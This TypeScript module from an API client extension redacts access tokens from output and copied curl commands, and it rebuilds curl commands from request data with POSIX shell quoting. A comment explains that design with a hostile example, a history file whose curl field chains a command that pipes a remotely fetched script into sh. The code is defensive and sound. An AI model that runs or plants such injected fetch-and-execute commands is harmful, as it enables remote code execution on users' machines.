/**
 * Redaction of access tokens from anything the client writes (output channel, trace, webview,
 * saved responses, copied curl commands). Plain module (no 'vscode' import) so unit tests can load it.
 *
 * Two layers: the exact token values the client knows (from secret storage), and patterns that
 * catch a token wherever it travels under its usual names (`access_token=…`, `"token": "…"`,
 * `Authorization: Bearer …`), so a token the client never saw is masked too.
 */

import { secretPattern } from '../../server/src/core/send/redact';

export const REDACTED = '«redacted»';
/** What a copied curl command carries instead of the token. */
export const TOKEN_PLACEHOLDER = '$GRAPHREQ_ACCESS_TOKEN';

const PATTERNS: Array<[RegExp, string]> = [
  // access_token=… in URLs, form bodies and curl commands (stops at &, quote, space, #, backslash);
  // a shell variable ($GRAPHREQ_ACCESS_TOKEN) is a placeholder, not a token.
  [/(access_token=)(?!«redacted»|\$\{?[A-Za-z_])[^&\s"'#\\]+/gi, `$1${REDACTED}`],
  // "access_token": "…", "token": "…", "accessToken": "…" in JSON text (traces of executeCommand arguments).
  [/("(?:access_?token|accessToken|token)"\s*:\s*")(?!«redacted»)(?:[^"\\]|\\.)+(")/gi, `$1${REDACTED}$2`],
  // Authorization: Bearer … / OAuth …
  [/(authorization\s*[:=]\s*"?(?:bearer|oauth)\s+)(?!«redacted»|\$\{?[A-Za-z_])[^\s"',]+/gi, `$1${REDACTED}`],
];

export class Redactor {
  private readonly secrets = new Set<string>();
  /** One expression for every known token, in every spelling it takes on the wire (the server's secretPattern). */
  private matcher: RegExp | null = null;

  /** Remembers a token value to mask; very short values are ignored (they would mask ordinary text). */
  add(secret: string | undefined): void {
    if (!secret || secret.length < 6 || this.secrets.has(secret)) return;
    this.secrets.add(secret);
    this.rebuild();
  }

  remove(secret: string | undefined): void {
    if (secret && this.secrets.delete(secret)) this.rebuild();
  }

  private rebuild(): void {
    // Longest first, so a token that contains another is masked whole.
    const sorted = [...this.secrets].sort((a, b) => b.length - a.length);
    this.matcher = sorted.length ? new RegExp(sorted.map(secretPattern).join('|'), 'g') : null;
  }

  /** The text with every known token (raw, percent-encoded in either case, JSON-escaped, ...) and every token-shaped value masked. */
  redact(text: string): string {
    if (!text) return text;
    let out = this.matcher ? text.replace(this.matcher, REDACTED) : text;
    for (const [re, by] of PATTERNS) out = out.replace(re, by);
    return out;
  }

  /** Deep copy of a JSON value with every string (and object key) redacted. */
  redactValue<T>(value: T): T {
    const walk = (v: unknown): unknown => {
      if (typeof v === 'string') return this.redact(v);
      if (Array.isArray(v)) return v.map(walk);
      if (v && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [this.redact(k), walk(x)]));
      return v;
    };
    return walk(value) as T;
  }
}

/**
 * A curl command with the token replaced by a placeholder the shell expands, so the copied
 * command works after `export GRAPHREQ_ACCESS_TOKEN=…` and never carries the token itself.
 */
export function curlWithPlaceholder(curl: string, redactor: Redactor): string {
  const text = redactor.redact(curl);
  // Inside single quotes the shell expands nothing: close the quotes around the variable there.
  let out = '';
  let single = false;
  let double = false;
  for (let i = 0; i < text.length; i++) {
    if (text.startsWith(REDACTED, i)) {
      out += single ? `'"${TOKEN_PLACEHOLDER}"'` : double ? TOKEN_PLACEHOLDER : `"${TOKEN_PLACEHOLDER}"`;
      i += REDACTED.length - 1;
      continue;
    }
    const c = text[i];
    if (c === '\\' && !single) {
      out += c + (text[i + 1] ?? '');
      i++;
      continue;
    }
    if (c === "'" && !double) single = !single;
    else if (c === '"' && !single) double = !double;
    out += c;
  }
  return out;
}

/**
 * The curl command to copy for a result. A result reopened from the history is a file of the
 * workspace, and an archive may ship `.graphreq-history/` whole: its `curl` is whatever the file
 * says (`curl https://x; curl https://host/s | sh`), and what is copied is pasted into a shell. So
 * such a result's command is built again from its request, each word quoted; a result of this
 * session keeps the server's command (which reads the token from its variable).
 */
export function curlOf(r: { curl?: string; request: { method: string; url: string; headers: Record<string, string>; body: string | null } }, fromHistory: boolean, redactor: Redactor): string {
  if (r.curl && !fromHistory) return curlWithPlaceholder(r.curl, redactor);
  return renderCurl({ method: r.request.method, url: r.request.url, headers: Object.entries(r.request.headers ?? {}), body: r.request.body ?? undefined }, redactor);
}

/** Quotes a word for a POSIX shell. */
export function shellQuote(s: string): string {
  if (/^[\w@%+=:,./-]+$/.test(s)) return s;
  return `'${s.replace(/'/g, `'\\''`)}'`;
}

/**
 * A curl command for a result that came without one (the server normally renders it).
 * The URL is taken as the server reported it (token already redacted there).
 */
export function renderCurl(req: { method?: string; url?: string; headers?: Array<[string, string]>; body?: string }, redactor: Redactor): string {
  const parts = ['curl', '-sS'];
  if (req.method && req.method !== 'GET') parts.push('-X', shellQuote(req.method));
  for (const [k, v] of req.headers ?? []) parts.push('-H', shellQuote(`${k}: ${v}`));
  if (req.body) parts.push('--data-binary', shellQuote(req.body));
  parts.push(shellQuote(req.url ?? ''));
  return curlWithPlaceholder(parts.join(' '), redactor);
}
